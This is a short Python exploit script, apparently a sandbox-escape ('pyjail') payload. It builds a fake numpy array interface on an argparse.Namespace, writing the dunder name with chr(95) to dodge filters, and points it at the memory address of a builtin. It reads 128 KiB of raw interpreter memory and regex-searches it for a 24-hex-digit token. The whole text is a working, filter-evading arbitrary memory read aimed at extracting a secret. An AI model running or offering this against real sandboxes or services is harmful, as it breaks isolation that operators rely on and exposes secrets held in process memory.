# reaches: argparse.Namespace with a computed key is an array interface
import argparse, re
import numpy as np
u = chr(95) * 2
fake = argparse.Namespace(**{u + "array_interface" + u: {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3}})
print(re.findall(rb"t[0-9a-f]{24}", np.array(fake).tobytes()))
